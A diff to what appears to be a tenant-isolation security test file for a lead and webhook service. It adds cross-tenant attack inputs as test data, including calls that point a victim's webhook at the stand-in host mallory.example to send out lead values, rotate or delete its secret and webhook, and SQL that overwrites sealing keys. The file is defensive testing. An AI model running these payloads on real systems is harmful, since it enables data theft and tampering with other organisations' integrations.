@@ -23,6 +23,8 @@ READS = (
     "api.list_scores('{victim_lead}')",
     "api.get_crm_sync('{victim_lead}')",
     "api.get_push('{victim_lead}')",
+    "api.list_webhooks()",
+    "api.get_webhook('{victim_webhook}')",
 )
 WRITES = (
     "api.update_lead('{victim_lead}', '{\"lead_score\": 1}')",
@@ -46,6 +48,15 @@ WRITES = (
         for rule in ("error", "skip", "update")
         for key in ("reference", "email", "phone")
     ),
+    "api.update_webhook('{victim_webhook}', '{\"url\": \"https://mallory.example/\", \"include\": \"values\"}')",
+    "api.update_webhook('{victim_webhook}', '{\"state\": \"disabled\", \"skip_missed\": true}', '*')",
+    "api.update_webhook('{own_webhook}', '{\"id\": \"{victim_webhook}\"}')",
+    "api.update_webhook('{own_webhook}', '{\"organization_id\": \"{victim}\"}')",
+    "api.rotate_webhook_secret('{victim_webhook}', 'mine', '\\x00', 'k', 0)",
+    "api.rotate_webhook_secret('{victim_webhook}', 'mine', '\\x00', 'k', 24, '{victim_shown}')",
+    "api.create_webhook('{\"url\": \"https://mallory.example/\"}', 'mine', '\\x00', 'k', '{victim_shown}')",
+    "api.create_webhook('{\"url\": \"https://mallory.example/\", \"organization_id\": \"{victim}\"}', 'mine', '\\x00', 'k')",
+    "api.delete_webhook('{victim_webhook}')",
 )
 
 # How a claim is forged. {victim_digest} is what the database stores: the digest of the digest.
@@ -107,7 +118,15 @@ DENIED = (
     "select crm.wake_worker('{victim}', '{victim_lead}')",
     "select crm.settle_attempt('{victim_lead}', 1, 'created')",
     "select webhook.lease_deliveries('{k}', 64)",
-    "select webhook.settle_delivery('{victim}', '{victim_lead}', 1, 'delivered')",
+    "select webhook.settle_delivery('{victim}', '{victim_delivery}', 1, 'delivered')",
+    "select webhook.endpoint_item('{victim}', '{victim_webhook}')",
+    "select webhook.message('{victim}', 'lead.created', null, now(), 1, '{victim_lead}', null, true)",
+    "select webhook.rotate_secret('{victim}', '{victim_webhook}', '\\x00', 'k', 0)",
+    "select webhook.change_endpoint('{victim}', '{victim_webhook}', '{}')",
+    "select webhook.announce_keys(array['k'], array[decode(repeat('42', 32), 'hex')])",
+    "select webhook.recipients('{victim}', '{victim_lead}')",
+    "update webhook.sealing_key set public_key = decode(repeat('42', 32), 'hex')",
+    "update auth.key_use set last_used_at = now()",
     "select webhook.queue_deliveries()",
     "select webhook.delete_old_deliveries(100)",
     "update webhook.endpoint set url = 'https://mallory.example'",
